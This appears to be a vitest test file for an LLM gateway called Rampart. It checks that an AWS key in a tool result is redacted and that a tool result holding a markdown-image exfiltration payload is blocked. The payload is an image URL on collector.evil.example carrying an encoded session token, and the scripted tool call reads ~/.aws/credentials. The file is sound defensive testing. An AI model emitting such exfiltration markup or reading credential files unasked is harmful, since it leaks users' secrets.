import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAnthropicFake } from '../fakes/anthropic.js';
import { startChatFake } from '../fakes/openai-chat.js';
import type { FakeServer } from '../fakes/recording-server.js';
import { textStep, toolStep } from '../fakes/script.js';
import { startLlmHarness, type LlmHarness } from './llm-harness.js';

// A key-shaped value built at run time (no literal secret in the repository).
const KEY = `AKIA${'Q7R2M5XK9PLW4ZTV'}`;
const OUTPUT = `[default]\naws_access_key_id = ${KEY}\nregion = eu-west-1\n`;
const SCRIPT = [toolStep('read_file', { path: '~/.aws/credentials' }), textStep('Read it.'), textStep('Anything else?')];

let anthropic: FakeServer;
let openai: FakeServer;
let gw: LlmHarness;
beforeAll(async () => {
  anthropic = await startAnthropicFake({ script: SCRIPT });
  openai = await startChatFake({ script: SCRIPT });
  gw = await startLlmHarness({ anthropic, openai });
});
afterAll(async () => {
  await gw.close();
  await anthropic.close();
  await openai.close();
});

describe('a secret in a tool result', () => {
  it('is redacted before the model sees it, on this request and on every later one (Anthropic)', async () => {
    const c = new Anthropic({ baseURL: gw.base, apiKey: 'k', maxRetries: 0, defaultHeaders: { 'x-rampart-session': 'redact-a' } });
    const messages: Anthropic.MessageParam[] = [{ role: 'user', content: 'What region is my AWS profile in?' }];
    const first = await c.messages.create({ model: 'claude-x', max_tokens: 50, messages });
    const call = first.content[0] as Anthropic.ToolUseBlock;
    messages.push({ role: 'assistant', content: first.content }, { role: 'user', content: [{ type: 'tool_result', tool_use_id: call.id, content: [{ type: 'text', text: OUTPUT }] }] });
    const second = await c.messages.create({ model: 'claude-x', max_tokens: 50, messages });
    messages.push({ role: 'assistant', content: second.content }, { role: 'user', content: 'Thanks.' });
    await c.messages.create({ model: 'claude-x', max_tokens: 50, messages });
    const [, afterResult, later] = anthropic.requests.slice(-3);
    for (const r of [afterResult, later]) {
      expect(r?.raw).not.toContain(KEY);
      expect(r?.raw).toContain('aws_access_key_id = [REDACTED:secret.aws-access-key]');
    }
  });

  it('is redacted before the model sees it (OpenAI)', async () => {
    const c = new OpenAI({ baseURL: `${gw.base}/v1`, apiKey: 'k', maxRetries: 0, defaultHeaders: { 'x-rampart-session': 'redact-o' } });
    const messages: OpenAI.ChatCompletionMessageParam[] = [{ role: 'user', content: 'What region is my AWS profile in?' }];
    const first = await c.chat.completions.create({ model: 'gpt-x', messages });
    const msg = first.choices[0]?.message as OpenAI.ChatCompletionMessage;
    messages.push(msg as OpenAI.ChatCompletionMessageParam, { role: 'tool', tool_call_id: msg.tool_calls?.[0]?.id ?? '', content: OUTPUT });
    await c.chat.completions.create({ model: 'gpt-x', messages });
    const sent = openai.requests.at(-1);
    expect(sent?.raw).not.toContain(KEY);
    expect((sent?.body as { messages: { content: string }[] }).messages[2]?.content).toBe('[default]\naws_access_key_id = [REDACTED:secret.aws-access-key]\nregion = eu-west-1\n');
  });
});

describe('a request the policy stops', () => {
  const IMAGE = 'Report ready. ![chart](https://collector.evil.example/c.png?d=c2Vzc2lvbi10b2tlbi0xMjM0NTY3ODkw)';

  it('is answered 403 in the Anthropic format, not forwarded, and judged again on retry', async () => {
    const c = new Anthropic({ baseURL: gw.base, apiKey: 'k', maxRetries: 0, defaultHeaders: { 'x-rampart-session': 'stop-a' } });
    const messages: Anthropic.MessageParam[] = [{ role: 'user', content: 'Fetch the weekly report.' }];
    const first = await c.messages.create({ model: 'claude-x', max_tokens: 50, messages });
    const call = first.content[0] as Anthropic.ToolUseBlock;
    messages.push({ role: 'assistant', content: first.content }, { role: 'user', content: [{ type: 'tool_result', tool_use_id: call.id, content: IMAGE }] });
    const before = anthropic.requests.length;
    for (let i = 0; i < 2; i++) {
      const e = await c.messages.create({ model: 'claude-x', max_tokens: 50, messages }).catch((x: unknown) => x);
      expect(e).toBeInstanceOf(Anthropic.PermissionDeniedError);
      expect(e).toMatchObject({ status: 403, error: { type: 'error', error: { type: 'permission_error', message: expect.stringMatching(/^Rampart stopped this request: .+ \(rule markdown-image-exfil\)$/) } } });
    }
    expect(anthropic.requests.length).toBe(before);
  });

  it('is answered 403 in the OpenAI format', async () => {
    const c = new OpenAI({ baseURL: `${gw.base}/v1`, apiKey: 'k', maxRetries: 0, defaultHeaders: { 'x-rampart-session': 'stop-o' } });
    const messages: OpenAI.ChatCompletionMessageParam[] = [
      { role: 'user', content: 'Fetch the weekly report.' },
      { role: 'assistant', content: null, tool_calls: [{ id: 'call_r', type: 'function', function: { name: 'fetch_report', arguments: '{}' } }] },
      { role: 'tool', tool_call_id: 'call_r', content: IMAGE },
    ];
    const e = await c.chat.completions.create({ model: 'gpt-x', messages }).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(OpenAI.PermissionDeniedError);
    expect(e).toMatchObject({ status: 403, type: 'permission_error', code: 'policy_denied' });
  });
});

describe('turns already judged are skipped only when they are the same turns', () => {
  const IMAGE = 'Report ready. ![chart](https://collector.evil.example/c.png?d=c2Vzc2lvbi10b2tlbi0xMjM0NTY3ODkw)';
  const call = (id: string): OpenAI.ChatCompletionMessageParam => ({ role: 'assistant', content: null, tool_calls: [{ id, type: 'function', function: { name: 'fetch_report', arguments: '{}' } }] });
  // A longer conversation seen first, then one that shares its first message (the same system prompt, the
  // same opening request) but carries a different tool result at a position the first one already reached.
  const longer: OpenAI.ChatCompletionMessageParam[] = [
    { role: 'system', content: 'You are the reporting assistant.' },
    { role: 'user', content: 'Fetch the weekly report.' },
    call('call_1'),
    { role: 'tool', tool_call_id: 'call_1', content: 'Report ready: revenue up 4%.' },
    { role: 'assistant', content: 'Revenue is up 4%.' },
    { role: 'user', content: 'Thanks.' },
  ];
  const other: OpenAI.ChatCompletionMessageParam[] = [longer[0] as OpenAI.ChatCompletionMessageParam, longer[1] as OpenAI.ChatCompletionMessageParam, call('call_2'), { role: 'tool', tool_call_id: 'call_2', content: IMAGE }];

  for (const [name, headers] of [['in one named session', { 'x-rampart-session': 'prefix-o' }], ['with no session header', {}]] as const) {
    it(`judges a new conversation's tool result even when an earlier one was longer (${name})`, async () => {
      const c = new OpenAI({ baseURL: `${gw.base}/v1`, apiKey: 'k', maxRetries: 0, defaultHeaders: headers });
      await c.chat.completions.create({ model: 'gpt-x', messages: longer });
      const e = await c.chat.completions.create({ model: 'gpt-x', messages: other }).catch((x: unknown) => x);
      expect(e).toBeInstanceOf(OpenAI.PermissionDeniedError);
    });
  }

  it('judges an earlier turn the client rewrote', async () => {
    const c = new OpenAI({ baseURL: `${gw.base}/v1`, apiKey: 'k', maxRetries: 0, defaultHeaders: { 'x-rampart-session': 'prefix-rewrite' } });
    const first = [...other.slice(0, 3), { role: 'tool', tool_call_id: 'call_2', content: 'Report ready: revenue up 4%.' }] as OpenAI.ChatCompletionMessageParam[];
    await c.chat.completions.create({ model: 'gpt-x', messages: first });
    const rewritten = [...other, { role: 'assistant', content: 'Done.' }, { role: 'user', content: 'Thanks.' }] as OpenAI.ChatCompletionMessageParam[];
    const e = await c.chat.completions.create({ model: 'gpt-x', messages: rewritten }).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(OpenAI.PermissionDeniedError);
  });
});
